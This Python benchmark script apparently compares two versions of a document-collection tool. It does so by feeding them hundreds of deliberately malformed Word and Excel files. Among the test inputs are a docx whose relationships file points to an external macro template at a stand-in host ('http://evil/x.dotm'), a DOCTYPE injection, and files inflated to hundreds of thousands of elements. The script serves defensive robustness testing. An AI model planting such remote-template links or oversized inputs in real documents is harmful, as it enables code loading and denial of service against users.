"""Before / after: the records and messages of `vanban collect`, code against code.

    git worktree add --detach /tmp/base-collect main
    python bench/collect_compare.py /tmp/base-collect [N]

Makes a campaign of N units (default 1.000) as `collect_bench.py` does, fills each unit's
skeleton once (tools/fill_returns.py), then makes 443 varied files from them: marks, content
controls or properties removed, headers of other units, figures typed oddly, rows swapped,
parts cut short, re-encoded in UTF-16, with a DOCTYPE, 600.000 elements, a remote template,
another campaign, damaged zips, unfilled skeletons and workbooks filled with numbers, words,
formulas. Then the code of BASE and this tree each run the same collects into a copy of the
data (first collect, the varied files with and without --replace, assigned by hand, again,
and a unit's own file after another of its files, in parallel), with the clock fixed, and
the two results — every file under data/ and every line of every report — are compared.
Prints «identical» or the differences; asserts nothing else.

    python bench/collect_compare.py --run OUT CORPUS    (the child, with PYTHONPATH=a tree)
"""

from __future__ import annotations

import dataclasses
import filecmp
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent


def make_corpus(src: Path) -> None:
    """``src/returns`` (filled skeletons) and ``src/out`` (the build) → ``src/variety``."""
    out = src / "variety"
    out.mkdir()
    rets = sorted((src / "returns").iterdir())

    def parts_of(path):
        with zipfile.ZipFile(path) as z:
            return [(i, z.read(i)) for i in z.infolist()]

    def write(name, path, change=None, extra=None, drop=()):
        with zipfile.ZipFile(out / name, "w", zipfile.ZIP_DEFLATED) as dst:
            for info, data in parts_of(path):
                if info.filename in drop:
                    continue
                if change and info.filename in change:
                    data = change[info.filename](data)
                dst.writestr(info, data)
            for n, d in (extra or {}).items():
                dst.writestr(n, d)

    def doc(f):
        return {"word/document.xml": lambda b: f(b.decode()).encode()}

    def no_vb(x): return re.sub(r'<w:bookmarkStart w:id="\d+" w:name="vb_[^"]*"/>', "", x)
    def no_vbp(x): return re.sub(r'<w:bookmarkStart w:id="\d+" w:name="vbp_[^"]*"/>', "", x)
    def no_tag(x): return re.sub(r'<w:tag w:val="[^"]*"/>', "", x)
    def no_alias(x): return re.sub(r'<w:alias w:val="[^"]*"/>', "", x)
    def unwrap(x):
        x = re.sub(r'<w:sdt><w:sdtPr>.*?</w:sdtPr><w:sdtContent>', "", x)
        return x.replace("</w:sdtContent></w:sdt>", "")
    def no_unit(b): return re.sub(rb'<property [^>]*name="vanban_unit"><vt:lpwstr>[^<]*</vt:lpwstr></property>', b"", b)
    def no_props(b): return re.sub(rb'<property .*</property>', b"", b)
    VALUES = ["1.234", "12,5", "abc", "-3", "1,234", "", "Có", "x", "1e30", "9" * 25, "  7 ", "−4", "12,5%", "Không", "-", "0", "3.5"]
    def edit_numbers(x, r):
        def sub(m):
            return m.group(1) + (r.choice(VALUES) if r.random() < 0.4 else m.group(2)) + m.group(3)
        return re.sub(r'(<w:t xml:space="preserve">)(\d+)(</w:t>)', sub, x)
    def swap_rows(x, r):
        rows = re.findall(r"<w:tr>.*?</w:tr>", x)
        if len(rows) > 6:
            a, b = r.sample(range(2, len(rows)), 2)
            x = x.replace(rows[a], "\0A").replace(rows[b], rows[a]).replace("\0A", rows[b])
        return x

    names = []
    for k, path in enumerate(rets[:400]):  # 20 kinds, 20 files each
        r = random.Random(k)
        kind = k % 20
        name = f"v{k:04d}-{kind}.docx"
        if kind == 0: write(name, path, doc(no_vb))
        elif kind == 1: write(name, path, doc(lambda x: no_tag(no_vb(x))))
        elif kind == 2: write(name, path, doc(lambda x: no_alias(no_tag(no_vb(x)))))
        elif kind == 3: write(name, path, {"docProps/custom.xml": no_unit})
        elif kind == 4: write(name, path, {"docProps/custom.xml": no_props})
        elif kind == 5:   # header names another unit: disputed
            other = parts_of(rets[(k + 500) % len(rets)])
            odoc = dict((i.filename, d) for i, d in other)["word/document.xml"].decode()
            head = odoc[:odoc.index("</w:tbl>")]
            write(name, path, doc(lambda x: head + x[x.index("</w:tbl>"):]))
        elif kind == 6: write(name, path, doc(no_vbp))
        elif kind == 7: write(name, path, doc(lambda x: edit_numbers(x, r)))
        elif kind == 8:
            write(name, path, doc(lambda x: x[: r.randrange(len(x) // 2, len(x))]))
        elif kind == 9:
            write(name, path, {"word/document.xml": lambda b: b.decode().replace("encoding='UTF-8'", "encoding='UTF-16'").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")})
        elif kind == 10:
            write(name, path, {"word/styles.xml": lambda b: b.replace(b"?>", b"?><!DOCTYPE x>", 1)})
        elif kind == 11: write(name, path, doc(lambda x: swap_rows(unwrap(no_vb(x)), r)))
        elif kind == 12: write(name, path, {**doc(lambda x: no_vbp(unwrap(no_vb(x)))), "docProps/custom.xml": no_props})
        elif kind == 13:   # header table removed, no props: unrecognised
            write(name, path, {**doc(lambda x: x[:x.index("<w:tbl>")] + x[x.index("</w:tbl>") + 8:]), "docProps/custom.xml": no_props})
        elif kind == 14:  # other campaign
            write(name, path, {"docProps/custom.xml": lambda b: b.replace(b"so-ket-nq01-ct01-2021", b"khac-2025")})
        elif kind == 15:  # form version differs
            write(name, path, {"docProps/custom.xml": lambda b: b.replace(b"5dcd4e34707f", b"aaaaaaaaaaaa")})
        elif kind == 16:  # bytes: truncated zip
            (out / name).write_bytes(path.read_bytes()[: r.randrange(100, 9000)])
        elif kind == 17:  # random byte flips in document.xml text
            def flip(b):
                b = bytearray(b)
                for _ in range(3):
                    b[r.randrange(200, len(b))] = r.choice(b"<>&=\"' x/")
                return bytes(b)
            write(name, path, {"word/document.xml": flip})
        elif kind == 18:  # macro relationship / external template
            write(name, path, {"word/_rels/document.xml.rels": lambda b: b.replace(b"</Relationships>", b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>')})
        else:  # guidance paragraphs left / numbers edited and ids mixed
            write(name, path, doc(lambda x: edit_numbers(no_tag(x), r)))
    # many elements (budget) — one file
    big = "<w:p/>" * 600_000
    write("w-big.docx", rets[0], doc(lambda x: x.replace("<w:body>", "<w:body>" + big, 1)))
    # unfilled skeletons, docx and xlsx
    sk = sorted((src / "out" / "don-vi").iterdir())
    for p in sk[:6]:
        (out / ("s-" + p.name)).write_bytes(p.read_bytes())
    # filled workbooks: values typed in input cells (D7.. H20), some strings, some formulas
    for k, p in enumerate([q for q in sk if q.suffix == ".xlsx"][10:40]):
        r = random.Random(1000 + k)
        def fill(b, r=r):
            x = b.decode()
            def sub(m):
                ref = m.group(1)
                c = r.random()
                if c < 0.5: return f'<c r="{ref}" s="6"><v>{r.randint(0, 500)}</v></c>'
                if c < 0.6: return f'<c r="{ref}" s="6" t="inlineStr"><is><t>{r.choice(VALUES)}</t></is></c>'
                if c < 0.63: return f'<c r="{ref}" s="6"><f>SUM(A1:A2)</f><v>3</v></c>'
                if c < 0.66: return f'<c r="{ref}" s="6" t="b"><v>1</v></c>'
                return m.group(0)
            return re.sub(r'<c r="([D-H]\d+)" s="6"/>', sub, x).encode()
        with zipfile.ZipFile(p) as z:
            names_ = [i.filename for i in z.infolist()]
        write(f"x{k:03d}-{p.name}", p, {n: fill for n in names_ if n.startswith("xl/worksheets/sheet")},
              )
    # duplicates of a good file
    (out / "dup-a.docx").write_bytes(rets[1].read_bytes())
    (out / "dup-b.docx").write_bytes(rets[1].read_bytes())
    # budget cases, stored (no compression ratio refusal)
    def write_stored(name, path, change):
        with zipfile.ZipFile(out / name, "w", zipfile.ZIP_STORED) as dst:
            for info, data in parts_of(path):
                if info.filename in change:
                    data = change[info.filename](data)
                info.compress_type = zipfile.ZIP_STORED
                dst.writestr(info, data)
    big = "<w:p/>" * 600_000
    write_stored("w-big-doc.docx", rets[2], doc(lambda x: x.replace("<w:body>", "<w:body>" + big, 1)))
    write_stored("w-big-styles.docx", rets[3], {"word/styles.xml": lambda b: b.replace(b"</w:styles>", big.encode() + b"</w:styles>")})
    write_stored("w-attrs-doc.docx", rets[4], doc(lambda x: x.replace("<w:body>", "<w:body>" + '<w:p a="1" b="2" c="3"/>' * 130_000, 1)))
    write_stored("w-big16-doc.docx", rets[5], {"word/document.xml": lambda b: b.decode().replace("encoding='UTF-8'", "encoding='UTF-16'").replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("<w:body>", "<w:body>" + "<w:p/>" * 300_000, 1).encode("utf-16")})


def run(out: Path, src: Path) -> None:
    """The collects, with the code on ``sys.path``; data and reports written to ``out``."""
    import datetime

    from generator.config import store
    from generator.intake.collect import collect

    store.now_iso = lambda: "2026-12-01T10:00:00+07:00"
    out.mkdir()
    data = out / "data"
    shutil.copytree(src / "data.orig", data)
    day = datetime.date(2026, 12, 1)
    rets = sorted((src / "returns").iterdir())
    variety = sorted((src / "variety").iterdir())
    runs = [("r1", [src / "returns"], dict(replace=True)),
            ("v1", [src / "variety"], {}),
            ("v2", [src / "variety"], dict(replace=True)),
            ("h1", variety[:60], dict(unit=rets[0].stem.split("-", 1)[1], replace=True)),
            ("h2", variety[60:70], dict(unit="khong-co")),
            ("r2", [src / "returns"], {}),
            ("r3", [src / "variety" / "v0000-0.docx", rets[0]], dict(replace=True)),
            ("r4", [rets[1], src / "variety" / "v0001-1.docx", rets[1]], {}),
            # in parallel: a unit's stored file after another of its files
            ("r5", [rets[1]] + rets[300:400] + [src / "variety" / "v0001-1.docx"], dict(replace=True))]
    for name, paths, options in runs:
        try:
            report = collect(paths, data, received=day, **options)
        except Exception as exc:  # noqa: BLE001 - what happened is what is compared
            (out / f"{name}.txt").write_text(f"EXC {type(exc).__name__}: {exc}\n", encoding="utf-8")
            continue
        with open(out / f"{name}.txt", "w", encoding="utf-8") as fh:
            for f in dataclasses.fields(report):
                for item in getattr(report, f.name):
                    fh.write(f"{f.name}\t{item!r}\n".replace(str(out), "OUT"))


def differences(a: Path, b: Path) -> list[str]:
    found = []
    cmp = filecmp.dircmp(a, b, ignore=[".vanban"])   # vanban's own state: its lock, the memo of a load
    found += [f"{a / n}: chỉ có ở một bên" for n in cmp.left_only + cmp.right_only]
    found += [f"{a / n}: khác" for n in cmp.diff_files + cmp.funny_files]
    for name in cmp.common_files:     # dircmp compares by stat; the bytes are what count
        if (a / name).read_bytes() != (b / name).read_bytes() and f"{a / name}: khác" not in found:
            found.append(f"{a / name}: khác")
    for sub in cmp.common_dirs:
        found += differences(a / sub, b / sub)
    return found


def main() -> None:
    if sys.argv[1] == "--run":
        run(Path(sys.argv[2]), Path(sys.argv[3]))
        return
    base = Path(sys.argv[1]).resolve()
    n = int(sys.argv[2]) if len(sys.argv) > 2 else 1000
    sys.path.insert(0, str(ROOT))
    sys.path.insert(0, str(ROOT / "tools"))
    sys.path.insert(0, str(ROOT / "bench"))
    import fill_returns
    from build_bench import make_campaign
    from generator.app import main as pipeline

    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp) / "corpus"
        make_campaign(src / "data", n)
        pipeline.build(src / "data", src / "out")
        rng = random.Random(1)
        (src / "returns").mkdir()
        for i, skeleton in enumerate(sorted((src / "out" / "don-vi").glob("*.docx"))[:n]):
            fill_returns.fill(skeleton, src / "returns" / f"{i:05d}-{skeleton.stem}.docx", rng)
        shutil.copytree(src / "data", src / "data.orig")
        make_corpus(src)
        results = {}
        for name, tree in (("trước", base), ("sau", ROOT)):
            results[name] = Path(tmp) / name
            subprocess.run([sys.executable, __file__, "--run", results[name], src], check=True,
                           env={**os.environ, "PYTHONPATH": str(tree)})
        files = sum(1 for p in results["sau"].rglob("*") if p.is_file())
        found = differences(results["trước"], results["sau"])
        print(f"{len(list((src / 'returns').iterdir()))} tệp trả về + {len(list((src / 'variety').iterdir()))} "
              f"tệp đủ loại; so {files} tệp kết quả (dữ liệu và báo cáo của 9 lần thu)")
        print("giống hệt từng byte" if not found else "KHÁC:\n" + "\n".join(found))


if __name__ == "__main__":
    main()
